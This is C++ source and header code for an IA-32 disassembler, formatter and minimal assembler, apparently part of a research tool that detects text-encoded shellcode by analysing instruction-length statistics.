  return group != OpGroup::kNone || uses_modrm(op1) || uses_modrm(op2) ||
         uses_modrm(op3);
}

const std::array<OpcodeInfo, 256>& one_byte_table() noexcept {
  return kOneByte;
}

const std::array<OpcodeInfo, 256>& two_byte_table() noexcept {
  return kTwoByte;
}

const GroupEntry& group_entry(OpGroup group, std::uint8_t reg) noexcept {
  static constexpr GroupEntry kEmpty{};
  if (reg >= 8) return kEmpty;
  switch (group) {
    case OpGroup::kGroup1:
      return kGroup1[reg];
    case OpGroup::kGroup1A:
      return kGroup1A[reg];
    case OpGroup::kGroup2:
      return kGroup2[reg];
    case OpGroup::kGroup3:
      return kGroup3[reg];
    case OpGroup::kGroup4:
      return kGroup4[reg];
    case OpGroup::kGroup5:
      return kGroup5[reg];
    case OpGroup::kGroup8:
      return kGroup8[reg];
    case OpGroup::kGroup11:
      return kGroup11[reg];
    case OpGroup::kNone:
      break;
  }
  return kEmpty;
}

}  // namespace mel::disasm
