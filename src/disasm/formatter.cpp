#include "mel/disasm/formatter.hpp"

#include <sstream>

#include "mel/disasm/decoder.hpp"

namespace mel::disasm {

namespace {

void append_hex(std::ostringstream& out, std::int64_t value) {
  if (value < 0) {
    out << "-0x" << std::hex << -value << std::dec;
  } else {
    out << "0x" << std::hex << value << std::dec;
  }
}

void append_memory(std::ostringstream& out, const Instruction& insn,
                   const Operand& operand) {
  switch (operand.width) {
    case Width::kByte:
      out << "byte ";
      break;
    case Width::kWord:
      out << "word ";
      break;
    case Width::kDword:
      out << "dword ";
      break;
  }
  if (insn.segment_override != SegReg::kNone) {
    out << seg_name(insn.segment_override) << ':';
  }
  out << '[';
  bool first = true;
  if (operand.base != Gpr::kNone) {
    out << gpr_name(operand.base, Width::kDword);
    first = false;
  }
  if (operand.index != Gpr::kNone) {
    if (!first) out << '+';
    out << gpr_name(operand.index, Width::kDword);
    if (operand.scale > 1) out << '*' << static_cast<int>(operand.scale);
    first = false;
  }
  if (operand.has_displacement) {
    if (!first && operand.displacement >= 0) out << '+';
    if (operand.displacement < 0) {
      out << "-";
      append_hex(out, -static_cast<std::int64_t>(operand.displacement));
    } else {
      append_hex(out, operand.displacement);
    }
  } else if (first) {
    out << '0';
  }
  out << ']';
}

void append_operand(std::ostringstream& out, const Instruction& insn,
                    const Operand& operand) {
  switch (operand.kind) {
    case OperandKind::kNone:
      break;
    case OperandKind::kRegister:
      out << gpr_name(operand.reg, operand.width);
      break;
    case OperandKind::kSegment:
      out << seg_name(operand.seg);
      break;
    case OperandKind::kImmediate:
      append_hex(out, operand.immediate);
      break;
    case OperandKind::kMemory:
      append_memory(out, insn, operand);
      break;
    case OperandKind::kRelative:
      // Render the resolved target offset, matching objdump's style.
      append_hex(out, insn.branch_target());
      break;
    case OperandKind::kFarPointer:
      append_hex(out, operand.far_segment);
      out << ':';
      append_hex(out, operand.immediate);
      break;
  }
}

char width_suffix(Width width) noexcept {
  switch (width) {
    case Width::kByte:
      return 'b';
    case Width::kWord:
      return 'w';
    case Width::kDword:
      return 'd';
  }
  return '?';
}

}  // namespace

std::string format_instruction(const Instruction& insn) {
  std::ostringstream out;
  if (insn.lock_prefix) out << "lock ";
  if (insn.rep_prefix) out << "rep ";
  out << mnemonic_name(insn.mnemonic, insn.cc);
  // Implicit-operand string/I/O instructions take a size suffix.
  if (insn.has_flag(kFlagString)) out << width_suffix(insn.data_width);
  bool first = true;
  for (std::size_t i = 0; i < insn.operand_count; ++i) {
    out << (first ? " " : ", ");
    first = false;
    append_operand(out, insn, insn.operands[i]);
  }
  return out.str();
}

std::string format_listing_line(const Instruction& insn,
                                util::ByteView bytes) {
  std::ostringstream out;
  out << std::hex;
  for (int shift = 12; shift >= 0; shift -= 4) {
    out << "0123456789abcdef"[(insn.offset >> shift) & 0xF];
  }
  out << std::dec << "  ";
  std::string hex_bytes;
  if (insn.length > 0 && insn.offset + insn.length <= bytes.size()) {
    hex_bytes = util::hex_string(bytes.subspan(insn.offset, insn.length));
  }
  out << hex_bytes;
  for (std::size_t pad = hex_bytes.size(); pad < 30; ++pad) out << ' ';
  out << ' ' << format_instruction(insn);
  return out.str();
}

std::string format_listing(util::ByteView bytes) {
  std::string out;
  for (const Instruction& insn : linear_sweep(bytes)) {
    out += format_listing_line(insn, bytes);
    out += '\n';
  }
  return out;
}

}  // namespace mel::disasm
