#include "mel/disasm/instruction.hpp"

namespace mel::disasm {

std::string_view mnemonic_name(Mnemonic mnemonic, std::uint8_t cc) noexcept {
  switch (mnemonic) {
    case Mnemonic::kInvalid:
      return "(bad)";
    case Mnemonic::kUnknown:
      return "(unknown)";
    case Mnemonic::kAdd: return "add";
    case Mnemonic::kOr: return "or";
    case Mnemonic::kAdc: return "adc";
    case Mnemonic::kSbb: return "sbb";
    case Mnemonic::kAnd: return "and";
    case Mnemonic::kSub: return "sub";
    case Mnemonic::kXor: return "xor";
    case Mnemonic::kCmp: return "cmp";
    case Mnemonic::kTest: return "test";
    case Mnemonic::kInc: return "inc";
    case Mnemonic::kDec: return "dec";
    case Mnemonic::kNeg: return "neg";
    case Mnemonic::kNot: return "not";
    case Mnemonic::kMul: return "mul";
    case Mnemonic::kImul: return "imul";
    case Mnemonic::kDiv: return "div";
    case Mnemonic::kIdiv: return "idiv";
    case Mnemonic::kRol: return "rol";
    case Mnemonic::kRor: return "ror";
    case Mnemonic::kRcl: return "rcl";
    case Mnemonic::kRcr: return "rcr";
    case Mnemonic::kShl: return "shl";
    case Mnemonic::kShr: return "shr";
    case Mnemonic::kSal: return "sal";
    case Mnemonic::kSar: return "sar";
    case Mnemonic::kDaa: return "daa";
    case Mnemonic::kDas: return "das";
    case Mnemonic::kAaa: return "aaa";
    case Mnemonic::kAas: return "aas";
    case Mnemonic::kAam: return "aam";
    case Mnemonic::kAad: return "aad";
    case Mnemonic::kSalc: return "salc";
    case Mnemonic::kXlat: return "xlat";
    case Mnemonic::kBound: return "bound";
    case Mnemonic::kArpl: return "arpl";
    case Mnemonic::kCwde: return "cwde";
    case Mnemonic::kCdq: return "cdq";
    case Mnemonic::kSahf: return "sahf";
    case Mnemonic::kLahf: return "lahf";
    case Mnemonic::kCmc: return "cmc";
    case Mnemonic::kMov: return "mov";
    case Mnemonic::kXchg: return "xchg";
    case Mnemonic::kLea: return "lea";
    case Mnemonic::kLes: return "les";
    case Mnemonic::kLds: return "lds";
    case Mnemonic::kMovzx: return "movzx";
    case Mnemonic::kMovsx: return "movsx";
    case Mnemonic::kBswap: return "bswap";
    case Mnemonic::kSetcc:
      switch (cc & 0xF) {
        case 0x0: return "seto";
        case 0x1: return "setno";
        case 0x2: return "setb";
        case 0x3: return "setae";
        case 0x4: return "sete";
        case 0x5: return "setne";
        case 0x6: return "setbe";
        case 0x7: return "seta";
        case 0x8: return "sets";
        case 0x9: return "setns";
        case 0xA: return "setp";
        case 0xB: return "setnp";
        case 0xC: return "setl";
        case 0xD: return "setge";
        case 0xE: return "setle";
        default: return "setg";
      }
    case Mnemonic::kCmovcc:
      switch (cc & 0xF) {
        case 0x0: return "cmovo";
        case 0x1: return "cmovno";
        case 0x2: return "cmovb";
        case 0x3: return "cmovae";
        case 0x4: return "cmove";
        case 0x5: return "cmovne";
        case 0x6: return "cmovbe";
        case 0x7: return "cmova";
        case 0x8: return "cmovs";
        case 0x9: return "cmovns";
        case 0xA: return "cmovp";
        case 0xB: return "cmovnp";
        case 0xC: return "cmovl";
        case 0xD: return "cmovge";
        case 0xE: return "cmovle";
        default: return "cmovg";
      }
    case Mnemonic::kBt: return "bt";
    case Mnemonic::kBts: return "bts";
    case Mnemonic::kBtr: return "btr";
    case Mnemonic::kBtc: return "btc";
    case Mnemonic::kShld: return "shld";
    case Mnemonic::kShrd: return "shrd";
    case Mnemonic::kLar: return "lar";
    case Mnemonic::kLsl: return "lsl";
    case Mnemonic::kPush: return "push";
    case Mnemonic::kPop: return "pop";
    case Mnemonic::kPusha: return "pusha";
    case Mnemonic::kPopa: return "popa";
    case Mnemonic::kPushf: return "pushf";
    case Mnemonic::kPopf: return "popf";
    case Mnemonic::kEnter: return "enter";
    case Mnemonic::kLeave: return "leave";
    case Mnemonic::kMovs: return "movs";
    case Mnemonic::kCmps: return "cmps";
    case Mnemonic::kStos: return "stos";
    case Mnemonic::kLods: return "lods";
    case Mnemonic::kScas: return "scas";
    case Mnemonic::kIns: return "ins";
    case Mnemonic::kOuts: return "outs";
    case Mnemonic::kIn: return "in";
    case Mnemonic::kOut: return "out";
    case Mnemonic::kJcc:
      switch (cc & 0xF) {
        case 0x0: return "jo";
        case 0x1: return "jno";
        case 0x2: return "jb";
        case 0x3: return "jae";
        case 0x4: return "je";
        case 0x5: return "jne";
        case 0x6: return "jbe";
        case 0x7: return "ja";
        case 0x8: return "js";
        case 0x9: return "jns";
        case 0xA: return "jp";
        case 0xB: return "jnp";
        case 0xC: return "jl";
        case 0xD: return "jge";
        case 0xE: return "jle";
        default: return "jg";
      }
    case Mnemonic::kJmp: return "jmp";
    case Mnemonic::kJmpFar: return "ljmp";
    case Mnemonic::kCall: return "call";
    case Mnemonic::kCallFar: return "lcall";
    case Mnemonic::kRet: return "ret";
    case Mnemonic::kRetFar: return "retf";
    case Mnemonic::kLoop: return "loop";
    case Mnemonic::kLoope: return "loope";
    case Mnemonic::kLoopne: return "loopne";
    case Mnemonic::kJecxz: return "jecxz";
    case Mnemonic::kInt: return "int";
    case Mnemonic::kInt3: return "int3";
    case Mnemonic::kInto: return "into";
    case Mnemonic::kInt1: return "int1";
    case Mnemonic::kIret: return "iret";
    case Mnemonic::kNop: return "nop";
    case Mnemonic::kWait: return "wait";
    case Mnemonic::kHlt: return "hlt";
    case Mnemonic::kClc: return "clc";
    case Mnemonic::kStc: return "stc";
    case Mnemonic::kCli: return "cli";
    case Mnemonic::kSti: return "sti";
    case Mnemonic::kCld: return "cld";
    case Mnemonic::kStd: return "std";
    case Mnemonic::kSysenter: return "sysenter";
    case Mnemonic::kSysexit: return "sysexit";
    case Mnemonic::kRdtsc: return "rdtsc";
    case Mnemonic::kCpuid: return "cpuid";
    case Mnemonic::kSystemGroup: return "(system)";
    case Mnemonic::kFpu: return "(x87)";
  }
  return "?";
}

std::string_view condition_suffix(std::uint8_t cc) noexcept {
  switch (cc & 0xF) {
    case 0x0: return "o";
    case 0x1: return "no";
    case 0x2: return "b";
    case 0x3: return "ae";
    case 0x4: return "e";
    case 0x5: return "ne";
    case 0x6: return "be";
    case 0x7: return "a";
    case 0x8: return "s";
    case 0x9: return "ns";
    case 0xA: return "p";
    case 0xB: return "np";
    case 0xC: return "l";
    case 0xD: return "ge";
    case 0xE: return "le";
    default: return "g";
  }
}

}  // namespace mel::disasm
