#pragma once
// Table-driven IA-32 opcode metadata: the full one-byte map and the subset
// of the 0x0F two-byte page relevant to shellcode analysis. The decoder is
// a thin interpreter over these tables.

#include <array>
#include <cstdint>

#include "mel/disasm/instruction.hpp"

namespace mel::disasm {

/// Operand encoding templates (Intel SDM appendix notation).
enum class OpTemplate : std::uint8_t {
  kNone = 0,
  // ModR/M driven.
  kEb,  ///< r/m, byte.
  kEv,  ///< r/m, word/dword by operand size.
  kEw,  ///< r/m, word.
  kGb,  ///< reg field, byte.
  kGv,  ///< reg field, word/dword.
  kGw,  ///< reg field, word.
  kSw,  ///< reg field selects a segment register.
  kM,   ///< r/m, must be memory, no access (LEA).
  kMa,  ///< r/m, must be memory, bound pair (BOUND).
  kMp,  ///< r/m, must be memory, far pointer (LES/LDS, FF /3, FF /5).
  // Immediates and displacements.
  kIb,  ///< imm8, sign-extended (arithmetic forms).
  kIbU, ///< imm8, zero-extended (INT vector, port, shift count, AAM base).
  kIw,  ///< imm16.
  kIz,  ///< imm16/32 by operand size.
  kI1,  ///< implicit constant 1 (shift forms).
  kJb,  ///< rel8.
  kJz,  ///< rel16/32.
  kAp,  ///< ptr16:32 far immediate.
  kOb,  ///< moffs8: absolute address, byte access.
  kOv,  ///< moffs: absolute address, word/dword access.
  // Registers.
  kRegB,  ///< register embedded in opcode low 3 bits, byte width.
  kRegV,  ///< register embedded in opcode low 3 bits, v width.
  kAL, kCL, kDX, keAX,
  kSeg,  ///< fixed segment register (OpcodeInfo::fixed_seg).
};

/// ModR/M reg-field groups (Intel group numbers).
enum class OpGroup : std::uint8_t {
  kNone = 0,
  kGroup1,   ///< 0x80-0x83 immediate arithmetic.
  kGroup1A,  ///< 0x8F POP Ev.
  kGroup2,   ///< 0xC0/0xC1/0xD0-0xD3 shifts/rotates.
  kGroup3,   ///< 0xF6/0xF7 TEST/NOT/NEG/MUL/IMUL/DIV/IDIV.
  kGroup4,   ///< 0xFE INC/DEC Eb.
  kGroup5,   ///< 0xFF INC/DEC/CALL/CALLF/JMP/JMPF/PUSH.
  kGroup8,   ///< 0x0F 0xBA BT/BTS/BTR/BTC Ev,Ib.
  kGroup11,  ///< 0xC6/0xC7 MOV immediate.
};

/// Static description of one opcode byte.
struct OpcodeInfo {
  Mnemonic mnemonic = Mnemonic::kInvalid;
  OpTemplate op1 = OpTemplate::kNone;
  OpTemplate op2 = OpTemplate::kNone;
  OpTemplate op3 = OpTemplate::kNone;
  std::uint32_t flags = kFlagNone;  ///< Static InstructionFlags.
  OpGroup group = OpGroup::kNone;
  SegReg fixed_seg = SegReg::kNone;  ///< For kSeg template.
  bool is_prefix = false;            ///< Consumed by the prefix loop.
  bool dst_writes = false;  ///< First operand is written.
  bool dst_reads = false;   ///< First operand is also read (add vs mov).

  [[nodiscard]] bool defined() const noexcept {
    return mnemonic != Mnemonic::kInvalid;
  }
  [[nodiscard]] bool needs_modrm() const noexcept;
};

/// Resolution of a group opcode by its ModR/M reg field.
struct GroupEntry {
  Mnemonic mnemonic = Mnemonic::kInvalid;
  std::uint32_t extra_flags = kFlagNone;
  bool dst_writes = false;
  bool dst_reads = false;
  [[nodiscard]] bool defined() const noexcept {
    return mnemonic != Mnemonic::kInvalid;
  }
};

/// The 256-entry one-byte opcode map (32-bit mode semantics).
[[nodiscard]] const std::array<OpcodeInfo, 256>& one_byte_table() noexcept;

/// The 256-entry 0x0F page. Unmodeled entries decode as kUnknown with
/// kFlagUndefined (adequate: the 0x0F escape byte is outside the text
/// domain, so this page only matters for binary corpora where treating an
/// exotic SSE instruction as run-terminating is the conservative choice).
[[nodiscard]] const std::array<OpcodeInfo, 256>& two_byte_table() noexcept;

/// Resolves a group opcode. Preconditions: group != kNone, reg < 8.
[[nodiscard]] const GroupEntry& group_entry(OpGroup group,
                                            std::uint8_t reg) noexcept;

}  // namespace mel::disasm
