#pragma once
// IA-32 instruction decoder (32-bit protected mode defaults, as on the
// paper's Linux/P4 testbed). Decodes any byte sequence — benign text
// disassembles to *something* almost always, which is exactly the property
// the paper exploits — and reports undefined/truncated encodings as
// instructions with mnemonic kInvalid and the kFlagUndefined flag.

#include <cstddef>
#include <vector>

#include "mel/disasm/instruction.hpp"
#include "mel/util/bytes.hpp"

namespace mel::disasm {

/// Decodes a single instruction starting at `offset`.
///
/// Always makes progress: the returned length is >= 1 whenever
/// offset < bytes.size() (an undecodable byte consumes at least itself),
/// and 0 only when offset is at or past the end of the stream.
[[nodiscard]] Instruction decode_instruction(util::ByteView bytes,
                                             std::size_t offset);

/// True when the instruction decoded to a defined encoding.
[[nodiscard]] inline bool decoded_ok(const Instruction& insn) noexcept {
  return insn.mnemonic != Mnemonic::kInvalid && insn.length > 0;
}

/// Linear sweep: decodes instructions back to back from `start` until the
/// end of the stream. Undecodable bytes appear as kInvalid entries of
/// length >= 1, so the sweep always terminates and covers every byte.
[[nodiscard]] std::vector<Instruction> linear_sweep(util::ByteView bytes,
                                                    std::size_t start = 0);

/// True when byte b is one of the 11 IA-32 prefix bytes. The text-domain
/// subset of these is what the paper's z parameter measures.
[[nodiscard]] bool is_prefix_byte(std::uint8_t b) noexcept;

}  // namespace mel::disasm
