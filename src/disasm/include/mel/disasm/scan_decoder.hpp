#pragma once
// Facts-only instruction scan: the decode-once cache's fast path.
//
// scan_instruction() walks the exact byte-consumption control flow of
// decode_instruction() — same prefix loop, same opcode/group resolution,
// same ModR/M/SIB/displacement/immediate sizing, same truncation and #UD
// bail-outs — but materializes none of the Operand machinery. It returns
// only the facts the MEL engines consume: encoded length, the class-flag
// word, and the handful of operand-derived bits the validity rules and
// control-flow successor logic read (segment override, memory-operand
// shape, AAM immediate, relative branch displacement).
//
// Contract (enforced by the differential battery in
// tests/test_exec_instruction_cache.cpp and the exec_mel fuzz oracle):
// for every byte stream and offset,
//   scan_instruction(b, o) == facts_of(decode_instruction(b, o))
// field for field. Any change to decoder.cpp must keep its scan twin in
// lockstep — both live in the same translation unit on purpose.

#include <cstddef>
#include <cstdint>

#include "mel/disasm/instruction.hpp"
#include "mel/util/bytes.hpp"

namespace mel::disasm {

/// Upper bound on bytes a single decode examines from its start offset:
/// up to 14 prefix bytes survive the 15-byte cap before the opcode, then
/// 2 opcode + 1 ModR/M + 1 SIB + 4 displacement + 6 immediate (ptr16:32)
/// = 28; rounded up for headroom. A decode at offset o depends only on
/// bytes [o, o + kMaxDecodeReach), which is what makes cache entries
/// shift-reusable across overlapping stream windows and bounds the
/// invalidation radius of a single-byte mutation.
inline constexpr std::size_t kMaxDecodeReach = 32;

/// The subset of a decoded instruction the MEL hot path consumes.
/// Field-for-field equal to what decode_instruction would produce.
struct ScanFacts {
  std::uint8_t length = 0;        ///< == Instruction::length.
  std::uint32_t flags = kFlagNone;  ///< == Instruction::flags.
  Mnemonic mnemonic = Mnemonic::kInvalid;  ///< == Instruction::mnemonic.
  SegReg segment_override = SegReg::kNone;
  /// First operand decoded to kRelative (Jb/Jz forms); rel_displacement
  /// is then Instruction::operands[0].immediate, so the branch target is
  /// offset + length + rel_displacement.
  bool has_relative = false;
  std::int32_t rel_displacement = 0;
  /// memory_operand() != nullptr, and whether that first memory operand
  /// is_absolute_memory() (disp-only / moffs form).
  bool has_memory_operand = false;
  bool first_memory_absolute = false;
  /// mnemonic == kAam with immediate operand 0 (the statically decidable
  /// #DE case the aam_zero rule keys on).
  bool aam_immediate_zero = false;
  /// Number of leading bytes that fully determine every field above except
  /// rel_displacement: prefixes, opcode, ModR/M and SIB (plus the AAM
  /// immediate, whose value is structural). Two scans whose streams agree
  /// on these bytes — and that both have `length` bytes available — yield
  /// identical facts modulo the relative-displacement value. This is what
  /// lets the instruction cache memoize scans by their leading bytes.
  std::uint8_t structure_len = 0;
  /// Width in bytes of the trailing relative displacement (0 when
  /// has_relative is false; else 1, 2 or 4, occupying the encoding's last
  /// rel_size bytes, sign-extended into rel_displacement).
  std::uint8_t rel_size = 0;
};

/// Scans a single instruction starting at `offset`. Same progress
/// guarantee as decode_instruction: length >= 1 whenever offset is in
/// range, 0 only at or past the end of the stream.
[[nodiscard]] ScanFacts scan_instruction(util::ByteView bytes,
                                         std::size_t offset);

}  // namespace mel::disasm
