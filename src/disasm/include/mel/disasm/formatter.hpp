#pragma once
// Text rendering of decoded instructions (Intel-flavoured syntax) for
// examples, debugging and the worm_forge tool.

#include <string>

#include "mel/disasm/instruction.hpp"
#include "mel/util/bytes.hpp"

namespace mel::disasm {

/// "sub eax, 0x41414141" — mnemonic plus comma-separated operands.
[[nodiscard]] std::string format_instruction(const Instruction& insn);

/// One listing line: "0040  2d 41 41 41 41   sub eax, 0x41414141".
/// `bytes` must be the stream the instruction was decoded from.
[[nodiscard]] std::string format_listing_line(const Instruction& insn,
                                              util::ByteView bytes);

/// Full linear-sweep listing of a stream (one line per instruction).
[[nodiscard]] std::string format_listing(util::ByteView bytes);

}  // namespace mel::disasm
