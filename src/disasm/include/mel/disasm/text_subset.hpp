#pragma once
// The keyboard-enterable instruction subset (paper Section 2.1) and the
// decoder-free expected-instruction-length analysis (paper Section 5.2).
//
// Everything here is *static* knowledge about IA-32 text encodings; nothing
// requires disassembling the input. That is the point of Section 5.2: the
// detector's parameters n and p are derived from the character frequency
// table alone.

#include <array>
#include <cstdint>
#include <span>
#include <string_view>
#include <vector>

#include "mel/util/bytes.hpp"

namespace mel::disasm {

/// A probability distribution over byte values. For text analyses all mass
/// must lie in 0x20..0x7E. Index = byte value.
using ByteDistribution = std::span<const double, 256>;

/// Paper Section 2.1 categories of text-enterable opcodes.
enum class TextOpcodeCategory : std::uint8_t {
  kNotText,          ///< Byte outside 0x20..0x7E.
  kPrefix,           ///< Operand/segment override prefixes (a16, o16, cs:, ...).
  kRegisterMemory,   ///< sub/xor/and/inc/imul/cmp/dec/push/pop/popa/...
  kJump,             ///< jo through jng (0x70..0x7E).
  kIo,               ///< insb/insd/outsb/outsd ('l' 'm' 'n' 'o').
  kMisc,             ///< aaa/daa/das/bound/arpl.
};

/// Classifies one opcode byte per the paper's taxonomy.
[[nodiscard]] TextOpcodeCategory classify_text_opcode(std::uint8_t b) noexcept;

/// True when b is a text byte that acts as an instruction prefix
/// (es: cs: ss: ds: fs: gs: o16 a16 — all eight prefixes are text bytes).
[[nodiscard]] bool is_text_prefix_byte(std::uint8_t b) noexcept;

/// True for the privileged text I/O opcodes 'l', 'm', 'n', 'o'
/// (insb, insd, outsb, outsd) that fault at user level.
[[nodiscard]] constexpr bool is_text_io_opcode(std::uint8_t b) noexcept {
  return b >= 0x6C && b <= 0x6F;
}

/// All text opcode bytes (non-prefix), in ascending order.
[[nodiscard]] const std::vector<std::uint8_t>& text_opcode_bytes();

/// Human-readable inventory row for documentation/examples.
struct TextOpcodeInfo {
  std::uint8_t byte;
  char character;  ///< The ASCII character this opcode is.
  std::string_view mnemonic;
  TextOpcodeCategory category;
};
[[nodiscard]] std::vector<TextOpcodeInfo> text_opcode_inventory();

// --- Section 5.2 parameter machinery ---------------------------------------

/// z: probability that a character drawn from `dist` is a prefix byte.
[[nodiscard]] double prefix_char_probability(ByteDistribution dist);

/// E[length of prefix chain] = z / (1 - z) (geometric chain of prefixes).
[[nodiscard]] double expected_prefix_chain_length(ByteDistribution dist);

/// E[length of the actual instruction] (opcode + ModR/M + SIB +
/// displacement + immediate), computed by exact enumeration over the text
/// opcode map with subsequent bytes drawn i.i.d. from `dist`.
/// Precondition: dist has all its mass in the text domain.
[[nodiscard]] double expected_actual_instruction_length(ByteDistribution dist);

/// E[instruction length] = E[prefix chain] + E[actual instruction].
[[nodiscard]] double expected_instruction_length(ByteDistribution dist);

/// Expected byte length of the instruction whose opcode byte is `opcode`,
/// with all subsequent bytes i.i.d. from `dist` (helper exposed for tests
/// and the parameter-estimation ablation).
[[nodiscard]] double expected_length_for_opcode(std::uint8_t opcode,
                                                ByteDistribution dist);

}  // namespace mel::disasm
