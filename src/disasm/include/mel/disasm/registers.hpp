#pragma once
// IA-32 register model shared by the decoder, formatter and the abstract
// payload executor.

#include <cstdint>
#include <string_view>

namespace mel::disasm {

/// General-purpose register index (IA-32 encoding order). The same 3-bit
/// index selects the 8/16/32-bit view depending on the operand width.
enum class Gpr : std::uint8_t {
  kEax = 0,
  kEcx = 1,
  kEdx = 2,
  kEbx = 3,
  kEsp = 4,
  kEbp = 5,
  kEsi = 6,
  kEdi = 7,
  kNone = 0xFF,
};

/// Segment registers (IA-32 encoding order).
enum class SegReg : std::uint8_t {
  kEs = 0,
  kCs = 1,
  kSs = 2,
  kDs = 3,
  kFs = 4,
  kGs = 5,
  kNone = 0xFF,
};

/// Operand width.
enum class Width : std::uint8_t {
  kByte = 1,   // 8-bit
  kWord = 2,   // 16-bit
  kDword = 4,  // 32-bit
};

/// Register name for the given width, e.g. (kEax, kByte) -> "al".
[[nodiscard]] std::string_view gpr_name(Gpr reg, Width width) noexcept;
[[nodiscard]] std::string_view seg_name(SegReg seg) noexcept;

/// True when the 8-bit view of `reg` aliases the high byte (ah/ch/dh/bh),
/// i.e. the raw 3-bit register field was >= 4 in a byte-width context.
[[nodiscard]] constexpr bool is_high_byte(std::uint8_t raw_index) noexcept {
  return raw_index >= 4;
}

}  // namespace mel::disasm
