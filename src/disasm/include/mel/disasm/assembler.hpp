#pragma once
// Minimal IA-32 assembler: a fluent builder for the instruction subset the
// shellcode corpus and tests need. The inverse of the decoder for that
// subset — every emit is covered by a decode-back test.
//
//   Assembler a;
//   Label loop = a.make_label();
//   a.xor_(Gpr::kEcx, Gpr::kEcx)
//    .mov_imm8(Gpr::kEcx, 3)
//    .bind(loop)
//    .dec(Gpr::kEcx)
//    .jcc(Cond::kNotZero, loop)   // backward rel8, fixed up at bind/take
//    .int_(0x80);
//   util::ByteBuffer code = a.take();

#include <cstdint>
#include <vector>

#include "mel/disasm/registers.hpp"
#include "mel/util/bytes.hpp"

namespace mel::disasm {

/// Condition codes by IA-32 encoding (low nibble of 0x70+cc).
enum class Cond : std::uint8_t {
  kOverflow = 0x0,
  kNoOverflow = 0x1,
  kBelow = 0x2,
  kAboveEqual = 0x3,
  kZero = 0x4,
  kNotZero = 0x5,
  kBelowEqual = 0x6,
  kAbove = 0x7,
  kSign = 0x8,
  kNoSign = 0x9,
  kParity = 0xA,
  kNoParity = 0xB,
  kLess = 0xC,
  kGreaterEqual = 0xD,
  kLessEqual = 0xE,
  kGreater = 0xF,
};

class Assembler {
 public:
  /// Opaque label handle. Valid for the Assembler that made it.
  struct Label {
    std::size_t id = 0;
  };

  [[nodiscard]] Label make_label();
  /// Binds the label to the current position. Precondition: not yet bound.
  Assembler& bind(Label label);

  // --- Register / immediate moves -----------------------------------------
  Assembler& mov_imm(Gpr dst, std::uint32_t imm);     // B8+r imm32
  Assembler& mov_imm8(Gpr reg8, std::uint8_t imm);    // B0+r imm8 (al..bh)
  Assembler& mov(Gpr dst, Gpr src);                   // 89 /r
  Assembler& mov_to_mem(Gpr base, Gpr src);           // 89 /r, [base]
  Assembler& mov_from_mem(Gpr dst, Gpr base);         // 8B /r, [base]
  Assembler& lea(Gpr dst, Gpr base, std::int8_t disp);  // 8D /r disp8
  Assembler& xchg(Gpr a, Gpr b);                      // 87 /r (or 90+r)

  // --- ALU ------------------------------------------------------------------
  Assembler& xor_(Gpr dst, Gpr src);                  // 31 /r
  Assembler& and_imm(Gpr dst, std::uint32_t imm);     // 81 /4 or 25
  Assembler& sub_imm(Gpr dst, std::uint32_t imm);     // 81 /5 or 2D
  Assembler& add_imm(Gpr dst, std::uint32_t imm);     // 81 /0 or 05
  Assembler& inc(Gpr reg);                            // 40+r
  Assembler& dec(Gpr reg);                            // 48+r
  Assembler& cmp_imm8(Gpr reg8, std::uint8_t imm);    // 80 /7

  // --- Stack ------------------------------------------------------------------
  Assembler& push(Gpr reg);                           // 50+r
  Assembler& pop(Gpr reg);                            // 58+r
  Assembler& push_imm32(std::uint32_t imm);           // 68
  Assembler& push_imm8(std::int8_t imm);              // 6A

  // --- Control flow -------------------------------------------------------------
  Assembler& jmp(Label target);                       // EB rel8
  Assembler& jcc(Cond cond, Label target);            // 70+cc rel8
  Assembler& loop_(Label target);                     // E2 rel8
  Assembler& call(Label target);                      // E8 rel32
  Assembler& ret();                                   // C3
  Assembler& int_(std::uint8_t vector);               // CD ib
  Assembler& nop();                                   // 90

  // --- Raw escape hatch ------------------------------------------------------
  Assembler& raw(std::initializer_list<int> bytes);

  [[nodiscard]] std::size_t size() const noexcept { return code_.size(); }

  /// Finalizes and returns the code. Precondition: every referenced label
  /// is bound and every rel8 fixup is within range (asserted).
  [[nodiscard]] util::ByteBuffer take();

 private:
  enum class FixupKind : std::uint8_t { kRel8, kRel32 };
  struct Fixup {
    std::size_t position;  ///< Offset of the displacement field.
    FixupKind kind;
    std::size_t label;
  };

  void emit8(std::uint8_t b) { code_.push_back(b); }
  void emit32(std::uint32_t v) { util::append_le32(code_, v); }
  void reference(Label label, FixupKind kind);
  void apply_fixups();

  util::ByteBuffer code_;
  std::vector<std::ptrdiff_t> label_positions_;  ///< -1 = unbound.
  std::vector<Fixup> fixups_;
};

}  // namespace mel::disasm
