#pragma once
// Decoded IA-32 instruction model. The decoder fills this structure; the
// abstract payload executor consumes it through the class-flag accessors.

#include <array>
#include <cstdint>
#include <string_view>

#include "mel/disasm/registers.hpp"

namespace mel::disasm {

/// Mnemonics for every instruction the decoder understands. Condition-coded
/// families (Jcc / SETcc) use a single mnemonic plus Instruction::cc.
enum class Mnemonic : std::uint8_t {
  kInvalid = 0,  ///< Undefined or undecodable opcode.
  kUnknown,      ///< Recognized escape page but unmodeled opcode (e.g. SSE).
  // Arithmetic / logic.
  kAdd, kOr, kAdc, kSbb, kAnd, kSub, kXor, kCmp, kTest,
  kInc, kDec, kNeg, kNot, kMul, kImul, kDiv, kIdiv,
  kRol, kRor, kRcl, kRcr, kShl, kShr, kSal, kSar,
  // BCD / misc legacy.
  kDaa, kDas, kAaa, kAas, kAam, kAad, kSalc, kXlat,
  kBound, kArpl, kCwde, kCdq, kSahf, kLahf, kCmc,
  // Data movement.
  kMov, kXchg, kLea, kLes, kLds, kMovzx, kMovsx, kBswap, kSetcc,
  kCmovcc, kBt, kBts, kBtr, kBtc, kShld, kShrd, kLar, kLsl,
  // Stack.
  kPush, kPop, kPusha, kPopa, kPushf, kPopf, kEnter, kLeave,
  // String / I/O.
  kMovs, kCmps, kStos, kLods, kScas, kIns, kOuts, kIn, kOut,
  // Control flow.
  kJcc, kJmp, kJmpFar, kCall, kCallFar, kRet, kRetFar,
  kLoop, kLoope, kLoopne, kJecxz,
  kInt, kInt3, kInto, kInt1, kIret,
  // System / privileged / misc.
  kNop, kWait, kHlt, kClc, kStc, kCli, kSti, kCld, kStd,
  kSysenter, kSysexit, kRdtsc, kCpuid, kSystemGroup,  // 0F 00 / 0F 01
  kFpu,  ///< x87 escape block D8-DF (decoded for length/memory only).
};

/// Printable lowercase mnemonic text; Jcc/SETcc require the cc code.
[[nodiscard]] std::string_view mnemonic_name(Mnemonic mnemonic,
                                             std::uint8_t cc = 0) noexcept;

